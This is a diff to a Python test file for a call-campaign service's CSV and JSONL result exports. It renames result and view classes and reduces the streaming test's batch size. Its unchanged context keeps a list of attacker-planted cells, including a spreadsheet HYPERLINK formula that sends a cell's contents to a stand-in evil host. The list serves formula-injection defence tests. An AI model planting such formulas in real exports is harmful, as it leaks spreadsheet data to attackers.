@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import csv
 import datetime as dt
+import functools
 import io
 import json
 import tracemalloc
@@ -17,14 +18,17 @@ from sqlalchemy.orm import Session, sessionmaker
 
 from tests.conftest import MINIMAL_FLOW
 from tests.service.helpers import ALL_DAY, Server, make_campaign
+from waihu.call_record import CallRecord
+from waihu.service.api import exports as api_exports
 from waihu.service.api.result_filters import ResultFilters
-from waihu.service.attempt_result import AttemptResult
 from waihu.service.db import open_database
 from waihu.service.exports import BOM, CSV_COLUMNS, csv_cell, csv_chunks, iter_rows, neutralise
 from waihu.service.models import DEFAULT_TENANT, Attempt, Contact
 from waihu.service.scheduler import claim_due_contacts, record_result
 
 YAML = {"Content-Type": "application/yaml"}
+#: Rows per export batch in the streaming test (the product reads 1000 at a time).
+BATCH = 100
 #: Cells an attacker would plant (in a CRM's reference id, a carrier's reason phrase, a flow's tag).
 ATTACKS = (
     '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
@@ -77,7 +81,7 @@ def _campaign_with_results(
         claims = claim_due_contacts(session, "exp", now, len(references), campaign_ids=[campaign["id"]])
         assert len(claims) == len(references)
         for index, claim in enumerate(claims):
-            result = AttemptResult(
+            result = CallRecord(
                 outcome="no_answer",
                 sip_code=480,
                 sip_reason=sip_reason or None,
@@ -201,14 +205,21 @@ def _bulk_results(factory: sessionmaker[Session], campaign_id: int, count: int, 
         session.commit()
 
 
-def test_csv_export_streams_thousands_of_rows(server: Server, tenants: dict[str, dict[str, str]]) -> None:
-    """20 batches over HTTP: chunked transfer (no length known up front), every row once, in order."""
+def test_csv_export_streams_thousands_of_rows(
+    server: Server, tenants: dict[str, dict[str, str]], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """20 batches over HTTP: chunked transfer (no length known up front), every row once, in order.
+
+    Batches of 100 rows instead of 1000: the same 20 keyset steps over a tenth of the rows (volume
+    is the slow tier's 100k-row test).
+    """
+    monkeypatch.setattr(api_exports, "iter_rows", functools.partial(iter_rows, batch=BATCH))
     keys = tenants["exp-b"]
     with server.client(keys["strategy"]) as client:
         campaign = client.post(
             "/v1/campaigns", json={"name": "bulk", "flow_id": "mini", "windows": ALL_DAY}
         ).json()
-    _bulk_results(_factory(server), campaign["id"], 20_000)
+    _bulk_results(_factory(server), campaign["id"], 20 * BATCH)
     with (
         server.client(keys["strategy"]) as client,
         client.stream("GET", "/v1/exports/results.csv", params={"campaign_id": campaign["id"]}) as response,
@@ -220,12 +231,12 @@ def test_csv_export_streams_thousands_of_rows(server: Server, tenants: dict[str,
         )
         body = b"".join(response.iter_bytes())
     rows = _csv_rows(body)
-    assert len(rows) == 20_000 and len({row["attempt_id"] for row in rows}) == 20_000
+    assert len(rows) == 20 * BATCH and len({row["attempt_id"] for row in rows}) == 20 * BATCH
     assert [row["end_at"] for row in rows] == sorted(row["end_at"] for row in rows)
     with server.client(keys["strategy"]) as client:
         graded = client.get("/v1/exports/results.jsonl", params={"campaign_id": campaign["id"], "grade": "A"})
     lines = graded.text.splitlines()
-    assert len(lines) == 5_000 and all(json.loads(line)["grade"] == "A" for line in lines)
+    assert len(lines) == 5 * BATCH and all(json.loads(line)["grade"] == "A" for line in lines)
 
 
 def _peak_export_bytes(factory: sessionmaker[Session], campaign_id: int) -> tuple[int, int]:
@@ -233,9 +244,9 @@ def _peak_export_bytes(factory: sessionmaker[Session], campaign_id: int) -> tupl
     filters = ResultFilters(campaign_id=campaign_id)
 
     def view(attempt: Any, contact: Any) -> dict[str, Any]:
-        from waihu.service.views import attempt_view
+        from waihu.service.views import AttemptView
 
-        return attempt_view(attempt, contact, with_transcript=False)
+        return AttemptView.from_row(attempt, contact, with_transcript=False).model_dump(exclude_unset=True)
 
     tracemalloc.start()
     try:
